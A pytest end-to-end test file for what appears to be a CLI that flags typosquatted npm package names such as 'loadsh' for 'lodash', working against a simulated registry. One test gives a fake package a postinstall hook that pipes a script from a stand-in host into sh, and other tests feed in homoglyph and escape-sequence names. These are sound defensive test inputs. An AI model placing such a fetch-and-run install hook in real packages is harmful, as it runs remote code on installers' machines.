from __future__ import annotations

import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from assay.store.corpus_file import save_corpus
from tests.end_to_end.run import HANGS_SECONDS, Finished, Machine, command
from tests.names.small import small_bytes
from tests.registry_simulator import Fault, RegistrySimulator

FIELDS = ["name", "exists", "level", "target", "class", "reasons"]
UNHEARD_OF = ("aiohttp", "rich", "tree_sitter", "assay.catalog", "nodesemver", "asyncio")


@pytest.fixture
def small(machine: Machine) -> Machine:
    """The machine with the small corpus, as after an update."""
    save_corpus(machine.data / "corpus.bin", small_bytes())
    return machine


def judged(machine: Machine, *words: str | Path) -> list[dict[str, Any]]:
    return lines(machine.assay("check", "--format", "json", *words))


def lines(done: Finished) -> list[dict[str, Any]]:
    return [json.loads(line) for line in done.stdout.splitlines()]


def typed(machine: Machine, text: bytes, *words: str) -> Finished:
    """A run with this on its standard input."""
    done = subprocess.run(
        command("check", *words),
        cwd=machine.home,
        env=machine.environment(),
        input=text,
        capture_output=True,
        timeout=HANGS_SECONDS,
    )
    return Finished(done.returncode, done.stdout.decode(), done.stderr.decode())


def test_offline_a_name_is_judged_by_itself(small: Machine, registry: RegistrySimulator) -> None:
    done = small.assay("check", "--offline", "--format", "json", "loadsh", "lodash", "quite-another-thing")
    assert (done.code, done.stderr) == (0, "")
    bad, good, other = lines(done)
    assert list(bad) == FIELDS
    assert (bad["name"], bad["exists"], bad["level"]) == ("loadsh", None, "warn")
    assert (bad["target"], bad["class"]) == ("lodash", "transposition")
    assert good == {"name": "lodash", "exists": None, "level": "none", "target": "", "class": "", "reasons": []}
    assert other["level"] == "none"
    assert registry.paths() == []


def test_a_name_that_nobody_owns_comes_with_the_names_that_were_meant(small: Machine) -> None:
    (told,) = judged(small, "loadsh")
    assert (told["exists"], told["level"], told["target"]) == (False, "warn", "lodash")
    assert "anyone could register it" in told["reasons"][0]
    assert any(reason.startswith("probably meant: lodash") for reason in told["reasons"])


def test_facts_of_the_registry_are_weighed(small: Machine, registry: RegistrySimulator) -> None:
    new = datetime.now(UTC) - timedelta(days=2)
    registry.publish("loadsh", publisher="stranger", published=new)
    registry.publish("axioss", publisher="axios-team")
    registry.publish("axios", publisher="axios-team")
    imitation, own = judged(small, "loadsh", "axioss")
    assert (imitation["exists"], imitation["level"], imitation["target"]) == (True, "warn", "lodash")
    assert any("first published" in reason for reason in imitation["reasons"])
    assert own["level"] != "warn"
    assert "/loadsh" in registry.paths()


def test_a_registry_that_fails_is_a_reason_and_gives_code_3(small: Machine, registry: RegistrySimulator) -> None:
    registry.fault("/loadsh", Fault.STATUS, status=500)
    done = small.assay("check", "loadsh", "--format", "json")
    assert (done.code, done.stderr) == (3, "")
    (told,) = lines(done)
    assert (told["exists"], told["level"]) == (None, "warn")
    assert "could not be asked" in told["reasons"][-1]
    assert small.assay("check", "loadsh", "--format", "json", "--allow-gaps").code == 0


def test_fail_on_warn_fails(small: Machine) -> None:
    assert small.assay("check", "loadsh", "--offline", "--format", "json", "--fail-on", "warn").code == 1
    assert small.assay("check", "lodash", "--offline", "--format", "json", "--fail-on", "warn").code == 0


@pytest.mark.parametrize(
    ("word", "error"),
    [
        ("", "greater than zero"),
        ("@scope/", "URL-friendly"),
        ("%40scope%2fname", "URL-friendly"),
        ("lod\u0430sh", "URL-friendly"),
        (".git", "start with a period"),
        ("node_modules", "not a valid package name"),
        (" ", "leading or trailing spaces"),
        ("https://files.invalid/x.tgz", "URL-friendly"),
        ("a\x1b[31mb", "URL-friendly"),
    ],
)
def test_names_that_npm_refuses_get_its_verdict(word: str, error: str, small: Machine) -> None:
    done = small.assay("check", word, "--format", "json")
    assert (done.code, done.stderr) == (2, "")
    (told,) = lines(done)
    assert list(told) == [*FIELDS, "validity"]
    assert error in told["validity"]["errors"][0]
    assert told["validity"]["validForOldPackages"] is False
    shown = small.assay("check", word)
    assert (shown.code, shown.stdout) == (2, "")
    assert error in shown.stderr
    assert "\x1b" not in shown.stderr


def test_names_that_npm_allows_no_more(small: Machine) -> None:
    old, long = judged(small, "JSONStream", "a" * 500, "--offline")
    assert "capital letters" in old["validity"]["warnings"][0]
    assert old["validity"]["validForOldPackages"] is True
    assert "214" in long["validity"]["warnings"][0]


def test_one_name_that_is_refused_among_others(small: Machine, registry: RegistrySimulator) -> None:
    registry.publish("plain-thing")
    done = small.assay("check", "plain-thing", ".git", "--format", "json")
    assert (done.code, [told["name"] for told in lines(done)]) == (2, ["plain-thing", ".git"])
    assert small.assay("check", "plain-thing", ".git", "--name-only").code == 2
    assert small.assay("check", "loadsh", ".git", "--name-only", "--fail-on", "warn").code == 1
    shown = small.assay("check", "plain-thing", "lod\u0430sh")
    assert shown.code == 2
    assert "plain-thing" in shown.stdout
    assert "probably meant: lodash" in shown.stderr


def test_ranges_aliases_and_purls_are_judged_by_their_name(small: Machine) -> None:
    words = ("loadsh@^4", "mine@npm:loadsh@4.0.0", "pkg:npm/loadsh@4.0.0", "npm:loadsh")
    assert {told["name"] for told in judged(small, *words, "--offline")} == {"loadsh"}


def test_names_from_standard_input(small: Machine) -> None:
    done = typed(small, b"loadsh\r\n\n  axioss \nlodash", "react", "-", "express", "--offline", "--format", "json")
    assert [told["name"] for told in lines(done)] == ["react", "loadsh", "axioss", "lodash", "express"]
    strange = typed(small, b"\xff\xfe\nlodash\n", "-", "--offline", "--format", "json")
    assert (strange.code, len(lines(strange))) == (2, 2)
    nothing = typed(small, b"\n", "-", "--format", "json")
    assert (nothing.code, nothing.stdout) == (0, "")
    assert "no names on standard input" in nothing.stderr


def test_internal_names_are_targets(small: Machine) -> None:
    (small.home / "assay.toml").write_text('[internal]\nnames = ["billing-engine", "@acme/*"]\n')
    own, scope, mine = judged(small, "biling-engine", "@acmee/tool", "@acme/tool", "--offline")
    assert (own["level"], own["target"]) == ("warn", "billing-engine")
    assert "one of your own names" in own["reasons"][0]
    assert (scope["level"], scope["target"], scope["class"]) == ("warn", "@acme/tool", "scope-lookalike")
    assert mine["level"] == "none"


def test_a_damaged_corpus_is_said_and_the_shipped_one_used(machine: Machine) -> None:
    machine.data.mkdir(parents=True)
    (machine.data / "corpus.bin").write_bytes(b"cut short")
    done = machine.assay("check", "loadsh", "--offline", "--format", "json")
    assert done.code == 0
    assert "assay corpus update" in done.stderr
    assert lines(done)[0]["target"] == "lodash"


def test_the_terminal_says_first_that_a_name_does_not_exist(small: Machine) -> None:
    shown = small.assay("check", "loadsh").stdout.splitlines()
    assert shown[0] == "warn    loadsh"
    assert shown[1].strip() == "nobody owns this name: anyone could register it"
    assert "        probably meant: lodash" in "\n".join(shown)
    assert any(line.startswith("Assay") for line in shown)


def test_the_terminal_judges_by_the_name_alone_if_it_may_not_ask(small: Machine) -> None:
    shown = small.assay("check", "loadsh", "lodash", "--offline").stdout.splitlines()
    assert shown[0] == "warn    loadsh"
    assert shown[1].strip().startswith("looks like lodash")
    assert shown[-1] == "none    lodash"


def test_names_alone_with_what_the_registry_says_of_them(small: Machine, registry: RegistrySimulator) -> None:
    registry.publish("loadsh", manifest={"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}})
    done = small.assay("check", "--name-only", "--format", "json", "loadsh", "no-such-thing-here")
    assert done.code == 0
    known, missing = lines(done)
    assert (list(known), known["exists"], missing["exists"]) == (FIELDS, True, False)
    assert not [path for path in registry.paths() if path.endswith(".tgz")]


def test_little_is_imported_for_a_name_alone(small: Machine) -> None:
    code = (
        "import sys; from assay.cli.main import cli; "
        "cli.main(['check', 'loadsh', '--offline', '--format', 'json'], standalone_mode=False)"
    )
    program = f"try:\n    {code.replace('; ', chr(10) + '    ')}\nexcept SystemExit:\n    print(*sys.modules)"
    done = subprocess.run(
        [sys.executable, "-c", program],
        cwd=small.home,
        env=small.environment({"PYTHONPATH": str(Path(__file__).parents[2] / "src")}),
        capture_output=True,
        text=True,
        timeout=HANGS_SECONDS,
    )
    told, modules = done.stdout.splitlines()
    assert json.loads(told)["target"] == "lodash"
    assert not set(UNHEARD_OF) & set(modules.split())


def test_the_last_word_is_the_names_to_look_at(small: Machine, registry: RegistrySimulator) -> None:
    registry.publish("loadsh")
    assert small.assay("check", "loadsh").stdout.endswith("\nLook at the name before you install: loadsh (lodash?)\n")
    registry.publish("plain-thing")
    assert "Look at the name" not in small.assay("check", "plain-thing").stdout
